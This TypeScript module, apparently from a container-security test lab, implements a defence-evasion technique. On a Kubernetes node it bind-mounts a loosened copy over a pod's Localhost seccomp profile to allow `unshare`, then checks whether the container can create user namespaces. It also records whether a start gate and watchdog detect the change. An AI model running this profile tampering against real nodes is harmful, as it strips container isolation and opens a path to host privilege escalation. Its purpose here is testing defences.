/**
 * Attack (T1562.001 Impair Defenses: Disable or Modify Tools, T1611 Escape
 * to Host): root on the node loosens the Localhost seccomp profile a
 * protected workload names, before the workload's container is created: a
 * copy of the profile with one more rule, `unshare` allowed, is bind-mounted
 * over the profile's file (the lab's profiles are bound read-only into the
 * node; a plain rewrite of a writable file is the same attack). containerd's
 * CRI reads the file at CreateContainer, so the container's record, and then
 * runc, carry the loosened profile, while the pod spec and admission still
 * name the node's profile. The container's processes then make user
 * namespaces, the way into most kernel privilege escalations. The effect is
 * `unshare -U` succeeding in the container, run by the harness (and listed
 * as its command).
 *
 * What must catch it: for a protected container, the start gate, which
 * holds the record's profile to what containerd makes of the bytes the gate
 * daemon pinned for that path at its start (lab/gates/seccomp-reference.ts
 * `pinLocalhostProfiles`); the file's new bytes are not the reference. For
 * any container, the watchdog, which compares the node's Localhost profiles
 * with its lab-start pins (lab/watchdog/defences.ts) and names the file: the
 * file is the attack's subject.
 *
 * The overmount is undone when the technique ends, whatever happened.
 */
import { LabError } from '../../errors.ts';
import type { HarnessCommand } from '../outcome.ts';
import type { Technique } from '../technique.ts';
import { type AttackErrorCode } from './common.ts';
import { tryUserNamespace, UNSHARE, UNSHARE_USER_NAMESPACE } from './containerd-record-privileges.ts';
import { containerInitPid, tryStart } from './start.ts';
import { awaitWatchdogAlerts, watchdogGraceMs } from '../../watchdog/index.ts';

/** Where the loosened copy is kept on the node while it is mounted. */
const LOOSENED_COPY = '/run/integrity-lab-attack-seccomp.json';

export const localhostSeccompOvermount: Technique = {
  name: 'localhost-seccomp-overmount',
  async run({ node, workload, pods }) {
    const name = `${workload.spec.namespace}/${workload.metadata.name}`;
    const seccomp = node.podSpecOf(workload).containers[0]?.seccomp;
    if (!seccomp || typeof seccomp !== 'object') {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `workload ${workload.metadata.name} does not name a Localhost seccomp profile (its first container asks for ${JSON.stringify(seccomp ?? 'none')}), so there is no profile file to loosen`);
    }
    const path = seccomp.localhost;
    const read = await node.exec.run(['cat', path]);
    if (read.exitCode !== 0) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `cannot read the Localhost profile ${path} on the node: ${read.stderr.trim()}`);
    let profile: { defaultAction?: string; syscalls?: { names?: string[]; action?: string }[] };
    try {
      profile = JSON.parse(read.stdout.toString()) as typeof profile;
    } catch (err) {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `the Localhost profile ${path} on the node is not JSON: ${(err as Error).message}`);
    }
    if (!profile.defaultAction || profile.defaultAction === 'SCMP_ACT_ALLOW') {
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `the Localhost profile ${path} does not deny by default (${profile.defaultAction ?? 'no defaultAction'}): loosening it would show nothing`);
    }
    const rule = { names: [UNSHARE], action: 'SCMP_ACT_ALLOW' };
    const loosened = { ...profile, syscalls: [...(profile.syscalls ?? []), rule] };
    const evidence: Record<string, unknown> = { profile: path, defaultAction: profile.defaultAction, rulesBefore: (profile.syscalls ?? []).length, ruleAdded: rule, overmount: LOOSENED_COPY };
    const write = await node.exec.run(['sh', '-c', 'cat > "$1" && mount --bind "$1" "$2"', 'sh', LOOSENED_COPY, path], { input: JSON.stringify(loosened) });
    try {
      if (write.exitCode !== 0) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `cannot mount a loosened copy over ${path} on the node: ${write.stderr.trim()}`);
      // The file containerd will read must now hold the rule: otherwise the attack did not happen.
      const now = await node.exec.run(['cat', path]);
      if (!now.stdout.toString().includes(`"${UNSHARE}"`)) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${path} on the node does not show the added ${UNSHARE} rule after the bind mount`);

      const since = new Date();
      const start = await tryStart(node, workload, pods);
      // The watchdog compares the profile with its lab-start pin every few seconds: its alert names the file.
      const grace = watchdogGraceMs(node, 'defence');
      if (grace) evidence.watchdogAlerts = (await awaitWatchdogAlerts(node, { since, timeoutMs: grace, predicate: (a) => a.defence?.file === path })).map((a) => a.reason);
      if (!start.started) {
        return { effect: false, reason: `the container did not start (${start.stage}) after its Localhost profile ${path} was loosened on the node (${UNSHARE} allowed): ${start.reason}`, evidence: { ...evidence, refusal: start.reason }, subjects: [path] };
      }
      const id = start.pod.containers[0]!.id;
      const { pid, state } = await containerInitPid(node, id);
      if (!pid) throw new LabError<AttackErrorCode>('ATTACK_FAILED', `the container ${id.slice(0, 12)} started with the loosened profile but is ${state}`);
      const harnessCommands: HarnessCommand[] = [];
      const r = await tryUserNamespace(node, id, harnessCommands);
      evidence.inContainer = r;
      if (r.exitCode === 0) {
        return { harnessCommands, effect: true, reason: `${name} started, and a process in it made a user namespace (${UNSHARE_USER_NAMESPACE.join(' ')} exited 0), which the node's Localhost profile ${path} denies`, evidence, subjects: [path] };
      }
      throw new LabError<AttackErrorCode>('ATTACK_FAILED', `${name} started with ${path} loosened, but ${UNSHARE_USER_NAMESPACE.join(' ')} in it exited ${r.exitCode} (${r.stderr}): containerd did not load the loosened file, or this kernel refuses user namespaces`);
    } finally {
      await node.exec.run(['sh', '-c', 'umount "$2" 2>/dev/null; rm -f "$1"', 'sh', LOOSENED_COPY, path]);
    }
  },
};
